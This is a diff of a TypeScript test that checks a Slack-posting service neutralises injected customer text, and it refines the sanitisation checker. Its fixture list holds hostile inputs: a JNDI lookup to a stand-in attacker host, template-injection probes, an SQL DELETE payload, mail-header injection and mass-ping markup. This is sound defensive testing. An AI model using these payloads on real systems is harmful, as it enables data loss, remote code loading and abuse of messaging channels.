@@ -27,7 +27,9 @@ const injections: [string, string][] = [
   ['entities', '&lt;!channel&gt; &#60;!channel&#62; &amp;lt;'],
   ['a date of Slack', '<!date^1392734382^{date}|https://evil.example>'],
   ['JSON that would end a block', '"}]},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
   ['a template', '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
   ['a format for a log', '%s%s%n %d ${jndi:ldap://evil.example/a}'],
   ['SQL', `'); DELETE FROM messages; --`],
   ['a mail header', 'x\r\nBcc: all@example.com\r\n\r\nbody'],
@@ -38,24 +40,33 @@ const injections: [string, string][] = [
 // biome-ignore lint/suspicious/noControlCharactersInRegex: those are what must not be there
 const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/
 
-/** What Slack would act on, anywhere in a message: our own markup has none of these. */
+/** The one piece of Slack's own markup that our cards have: a time in the reader's zone. */
+const OUR_TIME = /<!date\^\d+\^\{date_short_pretty\} \{time\}\|[\d :UTC-]+>/g
+
+/** Nothing that Slack stored pings, links to where a customer wants, or hides what it says. */
 function expectDisarmed(stored: unknown): void {
-  const text = JSON.stringify(stored)
-  const everything = JSON.parse(`[${text}]`)
-  const strings: string[] = []
-  const walk = (value: unknown): void => {
-    if (typeof value === 'string') strings.push(value)
-    else if (Array.isArray(value)) value.forEach(walk)
-    else if (value && typeof value === 'object') Object.values(value).forEach(walk)
+  const plain: string[] = []
+  const parsed: string[] = []
+  const walk = (value: unknown, isPlain = false): void => {
+    if (typeof value === 'string') (isPlain ? plain : parsed).push(value)
+    else if (Array.isArray(value)) for (const item of value) walk(item)
+    else if (value && typeof value === 'object') {
+      // Slack shows plain_text and the text of a rich_text as they are; all other texts are read for pings and links.
+      const literal = 'type' in value && (value.type === 'plain_text' || value.type === 'text')
+      for (const inner of Object.values(value)) walk(inner, literal)
+    }
   }
-  walk(everything)
-  for (const string of strings) {
-    expect(string).not.toMatch(/<!|<@U000000001|<@UBOB|<#C/)
-    expect(string).not.toMatch(/@(everyone|channel|here)\b/i)
-    expect(string).not.toMatch(/<(https?:\/\/evil|javascript:)/i)
-    expect(string).not.toMatch(/<(script|img|iframe)/i)
-    expect(string).not.toMatch(HIDDEN)
-    expect(string.isWellFormed()).toBe(true)
+  walk(stored)
+  expect(parsed.length).toBeGreaterThan(0)
+  for (const text of parsed.map((found) => found.replace(OUR_TIME, ''))) {
+    expect(text).not.toMatch(/@(everyone|channel|here)\b/i)
+    expect(text).not.toMatch(/<!|<@U000000001|<@UBOB|<#C/)
+    expect(text).not.toMatch(/<(https?:\/\/evil|javascript:)/i)
+    expect(text).not.toMatch(/<(script|img|iframe)/i)
+  }
+  for (const text of [...parsed, ...plain]) {
+    expect(text).not.toMatch(HIDDEN)
+    expect(text.isWellFormed()).toBe(true)
   }
 }
 
